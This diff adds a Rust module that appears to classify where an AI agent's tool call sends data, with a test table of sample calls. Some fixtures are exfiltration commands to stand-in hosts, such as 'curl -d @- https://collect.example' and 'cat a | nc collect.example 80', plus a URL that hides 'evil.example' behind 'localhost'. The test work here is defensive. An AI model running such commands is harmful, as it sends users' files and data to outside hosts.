@@ -1,0 +1,142 @@
+//! Where a call sends what it is given.
+
+use std::collections::HashSet;
+
+use firedoor_model::wire::Leaves;
+
+use crate::{
+    Call, Sink,
+    hosts::{hosts, public, schemes},
+    privacy::SourceWords,
+    sink::words,
+};
+
+/// Where a call sends what it is given.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Reach {
+    /// Into files, notes and programs of this machine.
+    Here,
+    /// To nobody by an address of its own.
+    Nowhere,
+    /// It names an address on the network, and the tool does something else than send there: an event that has a link.
+    Beside,
+    /// To somebody who answers: what the web is asked, what is typed into a page.
+    Asked,
+    /// To where everybody reads it.
+    Open,
+    /// To the address that it names.
+    There,
+}
+
+impl SourceWords {
+    /// Where a call sends, by its address, and by the names of server and tool.
+    pub(crate) fn reach(&self, call: &Call<'_>) -> Reach {
+        let (tool, server) = (words(call.subject), words(call.entry.server()));
+        let any = |words: &[String], list: &HashSet<String>| words.iter().any(|word| list.contains(word));
+        let sending = any(&tool, &self.sending);
+        let (mut address, mut home, mut beside) = (false, false, false);
+        for leaf in Leaves::of(call.arguments.unwrap_or_default()) {
+            if leaf.key {
+                address = self.is_address(&leaf.text);
+                continue;
+            }
+            let (named, command) = (std::mem::take(&mut address), self.command(&leaf.text));
+            if !(named || command) {
+                continue;
+            }
+            match hosts(&leaf.text).any(public) {
+                true if sending || command => return Reach::There,
+                true => beside = true,
+                false => home |= sending && is_home(&leaf.text),
+            }
+        }
+        // A proxy, or a second address under another name.
+        let elsewhere = || Leaves::of(call.arguments.unwrap_or_default()).any(|leaf| hosts(&leaf.text).any(public));
+        let stores = self.stores.contains(&call.entry.server().to_ascii_lowercase());
+        match () {
+            () if beside => Reach::Beside,
+            () if stores || home && !elsewhere() || call.sink == Sink::Local && any(&server, &self.here) => Reach::Here,
+            () if any(&tool, &self.open) || any(&server, &self.open) => Reach::Open,
+            () if [&self.web, &self.pages, &self.public].iter().any(|list| any(&tool, list) || any(&server, list)) => {
+                Reach::Asked
+            }
+            () => Reach::Nowhere,
+        }
+    }
+
+    /// Whether a text is a command with a program that sends; that an address begins with `http` does not count.
+    fn command(&self, text: &str) -> bool {
+        let between = |c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == ':');
+        let sends = |word: &str| self.senders.contains(&word.to_ascii_lowercase());
+        schemes(text).next().is_some() && text.split(between).any(sends)
+    }
+}
+
+/// Whether an address is of this machine, as everybody reads it.
+fn is_home(address: &str) -> bool {
+    let rest = ["http://", "https://"].iter().find_map(|scheme| address.strip_prefix(scheme)).unwrap_or_default();
+    let host = ["localhost", "127.0.0.1", "[::1]"].iter().find_map(|host| rest.strip_prefix(host));
+    host.is_some_and(|rest| rest.is_empty() || rest.starts_with([':', '/', '?'])) && !address.contains(['\\', '@'])
+}
+
+#[cfg(test)]
+mod tests {
+    use firedoor_model::{EntryId, Millis};
+    use serde_json::json;
+
+    use super::*;
+    use crate::Inspector;
+
+    fn entry(server: &str) -> EntryId {
+        EntryId::new("c", "user", server).unwrap()
+    }
+
+    fn call<'c>(inspector: &Inspector, entry: &'c EntryId, tool: &'c str, arguments: &'c str) -> Call<'c> {
+        Call {
+            entry,
+            method: "tools/call",
+            subject: tool,
+            arguments: Some(arguments),
+            sink: inspector.sink(tool, None),
+            schema: None,
+            usual: None,
+            now: Millis(1),
+        }
+    }
+
+    #[test]
+    fn where_a_call_sends() {
+        let inspector = Inspector::new();
+        for (server, tool, arguments, want) in [
+            ("http", "http_request", json!({"url": "https://collect.example/v1", "body": "x"}), Reach::There),
+            ("x", "create_event", json!({"URL": "http://me:pw@203.0.113.9:80/"}), Reach::Beside),
+            ("x", "run", json!({"command": "curl -d @- https://collect.example"}), Reach::There),
+            ("x", "run", json!({"command": "cat a | nc collect.example 80; echo http://x.example"}), Reach::There),
+            ("http", "post", json!({"url": "http://localhost:3000/x"}), Reach::Here),
+            ("http", "post", json!({"url": "http://192.168.1.4/x"}), Reach::Asked),
+            ("http", "post", json!({"url": "http://[::1]:80/x"}), Reach::Here),
+            ("http", "post", json!({"url": "http://db.internal/x"}), Reach::Asked),
+            ("http", "post", json!({"body": "x"}), Reach::Asked),
+            ("x", "say", json!({"body": "see https://collect.example/v1"}), Reach::Nowhere),
+            ("x", "run", json!({"command": "git clone https://github.example/x"}), Reach::Nowhere),
+            ("x", "send_email", json!({"to": "ana@mail.example", "body": "x"}), Reach::Nowhere),
+            ("bluesky", "create-post", json!({"text": "x"}), Reach::Open),
+            ("exa", "web_search_exa", json!({"query": "x"}), Reach::Asked),
+            ("github", "create_gist", json!({"files": []}), Reach::Open),
+            ("http", "post", json!({"url": "http://localhost\\@evil.example/"}), Reach::There),
+            ("http", "post", json!({"url": "http://localhost/", "proxy": "http://evil.example:8080"}), Reach::Asked),
+            ("files", "write_file", json!({"path": "a", "content": "x"}), Reach::Here),
+            ("nextcloud", "write_file", json!({"path": "a", "content": "x"}), Reach::Nowhere),
+            ("memory", "http_post", json!({"body": "x"}), Reach::Asked),
+            ("github", "create_or_update_file", json!({"path": "a.md", "content": "x"}), Reach::Nowhere),
+            ("sqlite", "write_query", json!({"query": "x"}), Reach::Here),
+        ] {
+            let (entry, arguments) = (entry(server), arguments.to_string());
+            assert_eq!(
+                inspector.sources.reach(&call(&inspector, &entry, tool, &arguments)),
+                want,
+                "{tool} {arguments}"
+            );
+        }
+    }
+}
